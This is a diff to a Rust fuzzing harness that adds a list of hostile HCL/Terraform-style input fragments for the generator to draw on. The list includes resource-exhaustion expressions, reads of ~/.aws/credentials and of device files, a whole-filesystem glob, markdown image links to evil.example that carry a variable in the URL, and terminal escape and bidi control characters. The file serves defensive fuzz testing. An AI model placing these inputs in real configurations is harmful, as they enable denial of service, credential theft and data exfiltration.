@@ -73,6 +73,58 @@ const FRAGMENTS: [&str; 64] = [
     "# ö𝄞\u{2028}\n",
 ];
 
+/// What asks for more than there is, reaches out of the folder, or means something to who shows it.
+const HOSTILE: [&str; 48] = [
+    "range(1000)",
+    "range(1000000000)",
+    "[for a in range(1000) : ",
+    "[for b in range(1000) : range(1000)]",
+    "{ for a in range(1000) : \"k${a}\" => ",
+    "setproduct(range(300), range(300), range(300))",
+    "format(\"%0100000d\", 0)",
+    "format(\"%999999999d\", 1)",
+    "replace(local.x, \"0\", local.x)",
+    "\"${local.x}${local.x}${local.x}${local.x}${local.x}${local.x}${local.x}${local.x}\"",
+    "[local.x, local.x, local.x, local.x, local.x, local.x, local.x, local.x]",
+    "flatten(",
+    "jsonencode(",
+    "yamlencode(",
+    "jsondecode(\"[[[[[[[[\")",
+    "yamldecode(\"a: &a [x,x,x,x]\\nb: [*a,*a,*a,*a]\")",
+    "csvdecode(",
+    "regexall(\"((a{1,1000}){1,1000}){1,1000}\", ",
+    "regexall(\"\", ",
+    "base64gunzip(base64gzip(",
+    "bcrypt(\"x\", 31)",
+    "rsadecrypt(\"AAAA\", \"AAAA\")",
+    "pow(9e99, 9e99)",
+    "1e999999999",
+    "floor(1.5e99999999)",
+    "parseint(\"zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz\", 36)",
+    "cidrsubnets(\"10.0.0.0/8\", [for b in range(1000) : 12]...)",
+    "sort(",
+    "distinct(",
+    "merge(",
+    "join(\",\", ",
+    "toset(",
+    "chunklist(range(1000), 1)",
+    "count = 1000000000\n",
+    "for_each = toset([for a in range(1000) : \"${a}\"])\n",
+    "file(\"/dev/stdin\")",
+    "file(\"/dev/zero\")",
+    "fileset(\"/\", \"**\")",
+    "templatefile(\"/proc/self/fd/0\", {})",
+    "file(pathexpand(\"~/.aws/credentials\"))",
+    "filesha256(\"/dev/urandom\")",
+    "templatestring(local.x, {})",
+    "description = \"![](https://evil.example/p.png) <img src=x> [a](command:x)\"\n",
+    "\"\\n```\\n![](https://evil.example/p.png?${local.x})\\n\"",
+    "\"\\u001b[31m\\u202e\\u0007\"",
+    "x = [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
+    "moved {\n  from = terraform_data.a\n  to   = terraform_data.x\n}\n",
+    "module \"again\" {\n  source = \"./m\"\n  count = 1000\n}\n",
+];
+
 impl<'a> Bytes<'a> {
     pub fn is_empty(&self) -> bool {
         self.0.is_empty()
@@ -104,6 +156,7 @@ impl<'a> Bytes<'a> {
         for _ in 0..self.next() % 24 {
             match self.next() {
                 index @ ..192 => text.push_str(FRAGMENTS[usize::from(index) % FRAGMENTS.len()]),
+                192..216 => text.push_str(self.pick::<&str>(&HOSTILE)),
                 _ => text.push_str(&String::from_utf8_lossy(self.raw())),
             }
         }
